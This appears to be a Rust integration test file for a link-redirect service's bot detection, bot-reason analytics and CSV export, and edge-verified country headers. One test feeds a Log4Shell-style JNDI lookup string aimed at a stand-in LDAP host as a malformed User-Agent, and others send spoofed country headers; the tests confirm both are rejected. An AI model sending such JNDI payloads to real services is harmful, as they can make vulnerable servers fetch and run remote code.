//! Trustworthy clicks, end to end: crawlers, HEAD requests, link-preview fetchers and clients
//! without a User-Agent get no ctx and are counted as bots with their reason (click events,
//! `groupBy=botReason`, its CSV, the confidence reason); the country header is believed only
//! from the verified edge.

use reqwest::{Method, Response};
use serde_json::{Value, json};
use tenx_shared::http::auth::Role;
use tenx_shared::platform::config::{CountryTrust, EDGE_SECRET_HEADER};

use crate::helpers::*;
use crate::scenario::IPHONE;

const GOOGLEBOT: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
const FACEBOOK_PREVIEW: &str =
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)";
const EDGE_SECRET: &str = "edge-secret-from-ssm-0123456789";

async fn seed(app: &TestApp) {
    let campaign = json!({
        "campaignId": "partner-alpha",
        "goalType": "AFFILIATE_CLICKOUT",
        "primaryLink": {"slug": "deal", "destinationUrl": "https://shop.example.com/deal"}
    });
    let operator = app.as_role("acme", Role::Operator);
    let resp = operator.create_campaign(&campaign).await;
    assert_eq!(resp.status(), 201, "{}", resp.text().await.unwrap());
    let link = json!({
        "destinationUrl": "https://shop.example.com/deal",
        "campaignId": "partner-alpha",
        "routingRules": [{"priority": 10, "destinationUrl": "https://shop.example.com/us",
            "conditions": {"countryIn": ["US"]}}]
    });
    let resp = operator.put_link("deal", &link).await;
    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
}

fn ctx_of(resp: &Response) -> Option<String> {
    assert_eq!(resp.status(), 302);
    query_param(header_str(resp.headers(), "location"), "ctx")
}

/// The `link.clicked` events on the queue, oldest first (only for apps without workers).
async fn clicks(app: &TestApp) -> Vec<Value> {
    app.drain_events()
        .await
        .into_iter()
        .filter(|e| e.kind.as_str() == "link.clicked")
        .map(|e| serde_json::to_value(e).unwrap())
        .collect()
}

#[tokio::test]
async fn crawlers_head_requests_previews_and_blank_agents_are_bots_with_their_reason() {
    let app = spawn_app_without_workers().await;
    seed(&app).await;
    let visits: [(Method, Option<&str>, &str); 5] = [
        (Method::GET, Some(GOOGLEBOT), "user_agent"),
        (Method::HEAD, Some(IPHONE), "head_request"),
        (Method::GET, Some(FACEBOOK_PREVIEW), "link_preview"),
        (Method::GET, None, "missing_user_agent"),
        (
            Method::GET,
            Some("${jndi:ldap://203.0.113.9/a}"),
            "malformed_user_agent",
        ),
    ];
    for (method, ua, _) in &visits {
        let headers: Vec<(&str, &str)> = ua.iter().map(|ua| ("user-agent", *ua)).collect();
        let resp = app.visit(method.clone(), "acme", "/deal", &headers).await;
        assert_eq!(ctx_of(&resp), None, "a bot gets no ctx: {method} {ua:?}");
    }
    let human = app
        .visit(Method::GET, "acme", "/deal", &[("user-agent", IPHONE)])
        .await;
    assert!(ctx_of(&human).is_some(), "a human gets a ctx");
    let events = clicks(&app).await;
    assert_eq!(events.len(), visits.len() + 1);
    for (event, (_, ua, reason)) in events.iter().zip(&visits) {
        assert_eq!(event["data"]["bot"], true, "{ua:?}");
        assert_eq!(event["data"]["botReason"], *reason, "{ua:?}");
        assert_eq!(event["data"]["segment"], "bot");
    }
    let last = &events[visits.len()]["data"];
    assert_eq!(
        (last["bot"].clone(), last["botReason"].clone()),
        (json!(false), Value::Null)
    );
}

#[tokio::test]
async fn localized_user_agents_are_browsers_like_any_other() {
    let app = spawn_app_without_workers().await;
    seed(&app).await;
    // Real browsers' UAs with UTF-8 in them: sent as raw bytes, as those browsers send them.
    let localized = [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, как Gecko) Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (Linux; U; Android 4.0.3; pt-br; GT-I9100 Build/IML74K) AppleWebKit/534.30 (KHTML, like Gecko) Versão/4.0 Mobile Safari/534.30",
        "Mozilla/5.0 (Linux; Android 12; Điện thoại) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36",
    ];
    for ua in localized {
        let resp = app
            .visit(Method::GET, "acme", "/deal", &[("user-agent", ua)])
            .await;
        assert!(ctx_of(&resp).is_some(), "a browser gets a ctx: {ua}");
    }
    let events = clicks(&app).await;
    assert_eq!(events.len(), localized.len());
    for (event, ua) in events.iter().zip(localized) {
        assert_eq!(
            (&event["data"]["bot"], &event["data"]["botReason"]),
            (&json!(false), &Value::Null),
            "{ua}"
        );
        assert_ne!(event["data"]["segment"], "bot", "{ua}");
    }
    // The same bytes behind a crawler's token are still a crawler's.
    let resp = app
        .visit(
            Method::GET,
            "acme",
            "/deal",
            &[("user-agent", "Googlebot/2.1 (как Gecko)")],
        )
        .await;
    assert_eq!(ctx_of(&resp), None);
    let events = clicks(&app).await;
    assert_eq!(events[0]["data"]["botReason"], "user_agent");
}

/// Polls `groupBy=botReason` until the aggregator has counted `clicks`.
async fn bot_reasons(app: &TestApp, clicks: i64) -> Value {
    let viewer = app.as_role("acme", Role::Viewer);
    eventually_or(
        &format!("the aggregator to count {clicks} clicks"),
        || async {
            let report: Value = viewer
                .analytics("groupBy=botReason")
                .await
                .json()
                .await
                .unwrap();
            if report["totals"]["clicks"] == clicks {
                Ok(report)
            } else {
                Err(report["totals"].to_string())
            }
        },
    )
    .await
}

fn row<'a>(report: &'a Value, key: &str) -> &'a Value {
    crate::helpers::find_by(&report["rows"], "key", key)
}

#[tokio::test]
async fn analytics_groups_clicks_by_bot_reason_and_names_the_dominant_one() {
    let app = spawn_app().await;
    seed(&app).await;
    for ua in [FACEBOOK_PREVIEW, FACEBOOK_PREVIEW, GOOGLEBOT, IPHONE] {
        app.visit(Method::GET, "acme", "/deal", &[("user-agent", ua)])
            .await;
    }
    app.visit(Method::HEAD, "acme", "/deal", &[("user-agent", IPHONE)])
        .await;
    let report = bot_reasons(&app, 5).await;
    assert_eq!(report["groupBy"], "botReason");
    let counts: Vec<(&str, i64, i64, i64)> = report["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let n = |k: &str| r[k].as_i64().unwrap();
            (
                r["key"].as_str().unwrap(),
                n("clicks"),
                n("botClicks"),
                n("qualifiedClicks"),
            )
        })
        .collect();
    assert_eq!(
        counts,
        [
            ("link_preview", 2, 2, 0),
            ("head_request", 1, 1, 0),
            ("human", 1, 0, 1),
            ("user_agent", 1, 1, 0),
        ]
    );
    assert_eq!(row(&report, "human")["conversions"], 0);

    let funnel: Value = app
        .as_role("acme", Role::Viewer)
        .analytics("funnel=true")
        .await
        .json()
        .await
        .unwrap();
    let reason = &funnel["campaigns"][0]["confidenceReasons"][0];
    assert_eq!(reason["code"], "bot_ratio_high");
    let message = reason["message"].as_str().unwrap();
    // 2 of the 4 bot clicks: the leading reason, not a majority.
    assert!(
        message.contains("most often a chat or social app previewing the link: 2"),
        "{message}"
    );

    let csv = app
        .as_role("acme", Role::Viewer)
        .export("groupBy=botReason&format=csv")
        .await;
    assert_eq!(csv.status(), 200);
    let body = csv.text().await.unwrap();
    let lines: Vec<&str> = body.lines().collect();
    assert!(
        lines[0].starts_with("botReason,clicks,qualifiedClicks,botClicks"),
        "{body}"
    );
    assert!(lines[1].starts_with("link_preview,2,0,2"), "{body}");
    // The reason in words, last (issue 62); the documented columns before it unchanged.
    assert!(
        lines[0].ends_with(",expiredClicks,botReasonWords"),
        "{body}"
    );
    let words = tenx_shared::domain::words::of("link_preview").expect("words for link_preview");
    assert!(lines[1].ends_with(words), "{body}");
}

async fn country_of(app: &TestApp, headers: &[(&str, &str)]) -> (String, String) {
    let mut all = vec![("user-agent", IPHONE)];
    all.extend_from_slice(headers);
    let resp = app.visit(Method::GET, "acme", "/deal", &all).await;
    let location = header_str(resp.headers(), "location").to_owned();
    let ctx = ctx_of(&resp).expect("a human's ctx");
    let context: Value = app.context(&ctx).await.json().await.unwrap();
    (context["country"].as_str().unwrap().to_owned(), location)
}

#[tokio::test]
async fn the_country_header_is_believed_only_with_the_edge_secret() {
    let mut config = test_config();
    config.country_trust = CountryTrust::EdgeSecret(EDGE_SECRET.as_bytes().to_vec());
    let app = spawn_with(config, None).await;
    seed(&app).await;
    let spoofed = [("cloudfront-viewer-country", "US")];
    let (country, location) = country_of(&app, &spoofed).await;
    assert_eq!(country, "unknown", "a visitor cannot choose its country");
    assert!(
        location.starts_with("https://shop.example.com/deal"),
        "{location}"
    );
    let guessed = [
        ("cloudfront-viewer-country", "US"),
        (EDGE_SECRET_HEADER, "edge-secret-from-ssm"),
    ];
    assert_eq!(country_of(&app, &guessed).await.0, "unknown");
    let from_edge = [
        ("cloudfront-viewer-country", "US"),
        (EDGE_SECRET_HEADER, EDGE_SECRET),
    ];
    let (country, location) = country_of(&app, &from_edge).await;
    assert_eq!(country, "US");
    assert!(
        location.starts_with("https://shop.example.com/us"),
        "{location}"
    );
}

#[tokio::test]
async fn by_default_nobody_chooses_the_country() {
    let mut config = test_config();
    config.country_trust = CountryTrust::Never;
    let app = spawn_with(config, None).await;
    seed(&app).await;
    let spoofed = [("cloudfront-viewer-country", "US")];
    assert_eq!(country_of(&app, &spoofed).await.0, "unknown");
}
